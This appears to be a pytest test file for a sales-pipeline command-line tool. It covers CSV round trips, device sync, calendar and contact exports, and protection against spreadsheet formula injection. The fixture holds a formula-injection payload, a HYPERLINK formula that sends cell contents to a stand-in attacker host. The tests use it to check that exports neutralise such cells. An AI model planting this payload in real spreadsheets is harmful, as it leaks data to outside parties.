"""The spreadsheet round trip: export, edit in place, ``import --update``; the edits are ordinary
edits that sync to the device, and importing the same file again changes nothing.  Also what an
export must never do: run as a formula in a spreadsheet, or lose an activity or an accent."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import icalendar
import pytest
import vobject
from helpers import one_error_line, salesmgr
from hypothesis import given, settings
from hypothesis import strategies as st

from salesmgr import storage
from salesmgr.exchange.tables import csv_text, read_table

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def desk(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    path = tmp_path / "desk.smp"
    assert salesmgr("init", path, "--currency", "EUR", "--owner", "ana").exit_code == 0
    ids = {}
    for company, title, value, notes in [
        ("Müller GmbH", "Flotte", "12000.00", "Budget approved\nContact: Jörg"),
        ("Acme", "Servers", "950.00", ""),
        (HOSTILE, "+1 to everything", "10.00", "@risk\n-minus"),
    ]:
        added = salesmgr("add", path, "--company", company, "--title", title, "--value", value,
                         "--notes", notes, "--phone", "+49 30 1234", "--contact", "Jörg Müller",
                         "--next-action", "Call", "--next-action-date", "2026-12-08")
        assert added.exit_code == 0, added.output
        ids[company] = added.stdout.strip()
    logged = salesmgr("log", path, ids["Müller GmbH"], "--kind", "call", "--summary",
                      "Spoke to Jörg; wants a demo", "--date", "2026-12-01")
    assert logged.exit_code == 0, logged.output
    ids["call"] = logged.stdout.strip()
    return path, ids


def read_rows(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))


def test_export_edit_import_update_gives_ordinary_edits_that_reach_the_device(
    desk: tuple[Path, dict[str, str]], tmp_path: Path, emulated_device: object
) -> None:
    path, ids = desk
    device = emulated_device("tcp")  # type: ignore[operator]
    loaded = salesmgr("load", path, "--to", device.url, env=device.env)
    assert loaded.exit_code == 0, loaded.output

    sheet = tmp_path / "pipeline.csv"
    assert salesmgr("export", path, "--activities", "--bom", "-o", sheet).exit_code == 0
    assert sheet.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_rows(sheet)
    # By company ("=" sorts before letters), each deal followed by its activities; a cell a
    # spreadsheet would run as a formula is written after a '.
    assert [(r["record"], r["company"]) for r in rows] == [
        ("opportunity", "'" + HOSTILE), ("opportunity", "Acme"), ("opportunity", "Müller GmbH"),
        ("activity", ""),
    ]
    by_id = {r["id"]: r for r in rows}
    by_id[ids["Müller GmbH"]].update(value="15000.00", stage="Negotiation",
                                     notes="Budget approved\nContact: Jörg Müller")
    by_id[ids["call"]]["summary"] = "Spoke to Jörg; demo on the 10th"
    rows.append({**{k: "" for k in rows[0]}, "record": "opportunity", "company": "Café Noir",
                 "title": "Espresso"})
    write_rows(sheet, rows)
    before = storage.load(path)

    result = salesmgr("import", path, sheet, "--update")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip().endswith("1 added, 2 updated, 2 unchanged")
    after = storage.load(path)
    deal = after.records[ids["Müller GmbH"]]
    assert (deal.values["value"], deal.values["stage"]) == ("15000.00", "Negotiation")
    # Ordinary edits: each changed field has a version of this replica's own, newer than the
    # load; the fields not edited keep their old version.
    old = before.records[ids["Müller GmbH"]]
    for name in ("value", "stage", "notes"):
        assert deal.dot_of(name).replica == after.replica_id
        assert deal.dot_of(name).counter > before.counter
    assert deal.dot_of("company") == old.dot_of("company")
    assert after.records[ids["Acme"]].field_dots == before.records[ids["Acme"]].field_dots
    assert after.records[ids[HOSTILE]].values["company"] == HOSTILE  # exactly, after the '

    synced = salesmgr("sync", path, "--from", device.url, env=device.env)
    assert synced.exit_code == 0, synced.output
    on_device = device.pipeline()
    assert on_device is not None
    assert on_device.records[ids["Müller GmbH"]].values["value"] == "15000.00"
    assert on_device.records[ids["call"]].values["summary"] == "Spoke to Jörg; demo on the 10th"
    assert any(r.values.get("company") == "Café Noir" for r in on_device.live("opportunity"))

    again_before = path.read_bytes()
    again = salesmgr("import", path, sheet, "--update")
    assert again.exit_code == 0, again.output
    assert again.stdout.strip().endswith("0 added, 0 updated, 5 unchanged")
    assert path.read_bytes() == again_before


def test_export_neutralizes_formulas_unless_raw_and_reimports_exactly(
    desk: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    path, ids = desk
    safe = salesmgr("export", path).stdout
    cells = [cell for row in csv.reader(io.StringIO(safe)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert dangerous == []
    assert "'" + HOSTILE in cells and "'+1 to everything" in cells and "'+49 30 1234" in cells
    assert "'@risk\n-minus" in cells
    raw = salesmgr("export", path, "--raw").stdout
    assert HOSTILE in [c for row in csv.reader(io.StringIO(raw)) for c in row]

    fresh = tmp_path / "fresh.smp"
    salesmgr("init", fresh, "--currency", "EUR", "--owner", "ana")
    sheet = tmp_path / "out.csv"
    sheet.write_text(safe, encoding="utf-8", newline="")
    assert salesmgr("import", fresh, sheet).exit_code == 0
    imported = storage.load(fresh).records[ids[HOSTILE]].values
    assert (imported["company"], imported["title"], imported["notes"], imported["phone"]) == (
        HOSTILE, "+1 to everything", "@risk\n-minus", "+49 30 1234")


def test_import_says_what_is_true_of_a_deleted_or_repeated_id(
    desk: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    path, ids = desk
    sheet = tmp_path / "all.csv"
    assert salesmgr("export", path, "-o", sheet).exit_code == 0
    assert salesmgr("delete", path, ids["Acme"]).exit_code == 0
    fresh_rows = read_rows(sheet)
    repeated = [*fresh_rows, fresh_rows[1]]
    write_rows(sheet, repeated)
    before = path.read_bytes()
    result = salesmgr("import", path, sheet, "--update")
    assert result.exit_code == 2
    refused = result.stderr.splitlines()
    deleted_on = storage.load(path).records[ids["Acme"]].dot_of("_deleted").when()[:10]
    assert any(f"refused: id {ids['Acme']} was deleted on {deleted_on}" in line
               for line in refused), refused
    # Rows as a spreadsheet numbers them; the file line too where a cell above holds a newline.
    assert any(f"row 5 (line 7): refused: id {fresh_rows[1]['id']} is repeated on rows 3 and 5"
               in line for line in refused), refused
    assert path.read_bytes() == before
    plain = salesmgr("import", path, sheet)
    assert f"id {ids['Müller GmbH']} is already in the pipeline" in plain.stderr
    assert "add --update to change it" in plain.stderr
    assert path.read_bytes() == before
    one_error_line(salesmgr("import", path, tmp_path / "missing.csv"))


def test_ics_and_vcf_open_in_the_libraries_calendar_apps_use(
    desk: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    path, ids = desk
    ics = salesmgr("export", path, "--ics").stdout_bytes
    calendar = icalendar.Calendar.from_ical(ics)
    events = calendar.walk("VEVENT")
    assert len(events) == 3
    mueller = next(e for e in events if "Müller GmbH" in str(e["SUMMARY"]))
    assert str(mueller["SUMMARY"]) == "Call — Müller GmbH: Flotte"
    assert mueller.decoded("DTSTART").isoformat() == "2026-12-08"
    assert str(mueller["UID"]) == f"{ids['Müller GmbH']}-next-action@salesmgr.invalid"
    todos = icalendar.Calendar.from_ical(salesmgr("export", path, "--ics", "--todos").stdout_bytes)
    assert len(todos.walk("VTODO")) == 3

    # Moving the date and exporting again keeps every UID: the calendar updates, not duplicates.
    salesmgr("edit", path, ids["Müller GmbH"], "--next-action-date", "2026-12-09")
    later = icalendar.Calendar.from_ical(salesmgr("export", path, "--ics").stdout_bytes)
    assert {str(e["UID"]) for e in later.walk("VEVENT")} == {str(e["UID"]) for e in events}

    vcf = salesmgr("export", path, "--vcf").stdout
    cards = list(vobject.readComponents(vcf))
    assert len(cards) == 3  # one per (contact, company)
    jorg = next(c for c in cards if c.org.value == ["Müller GmbH"])
    assert (jorg.fn.value, jorg.n.value.family, jorg.n.value.given) == (
        "Jörg Müller", "Müller", "Jörg")
    assert jorg.tel.value == "+49 30 1234"
    again = list(vobject.readComponents(salesmgr("export", path, "--vcf").stdout))
    assert [c.uid.value for c in again] == [c.uid.value for c in cards]


CELLS = st.text(
    alphabet=st.sampled_from(list("=+-@'\t\r\n\",;| aéß€0123456789Zz")), max_size=12
)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=6),
       bom=st.booleans())
def test_any_cells_written_read_back_exactly_and_never_start_a_formula(
    rows: list[list[str]], bom: bool, tmp_path_factory: pytest.TempPathFactory
) -> None:
    header = ["a", "b", "c"]
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    path.write_bytes(csv_text(header, rows, bom=bom).encode("utf-8"))
    written = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in written for c in r)
    table = read_table(path)
    assert (table.header, [r.cells for r in table.rows]) == (header, rows)
